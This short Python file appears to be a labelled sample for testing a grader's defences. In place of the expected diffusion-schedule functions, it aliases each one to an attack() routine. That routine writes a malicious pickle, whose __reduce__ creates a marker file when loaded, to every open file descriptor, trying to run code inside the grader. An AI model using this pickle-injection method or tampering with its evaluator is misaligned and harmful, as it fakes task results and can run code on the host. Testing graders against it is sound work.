"""Answers with a pickle that would run code where it is read.

reason: it wrote into the grader's pipe
"""

import os
import pickle


class Planted:
    def __reduce__(self):
        return open, ("/tmp/kata-planted-pickle", "w")


def attack(*_, **__):
    for pipe in range(3, 64):
        try:
            os.write(pipe, pickle.dumps({"evidence": Planted()}))
        except OSError:
            continue
    return 0


linear_betas = cosine_betas = alphas_cumprod = snr = attack
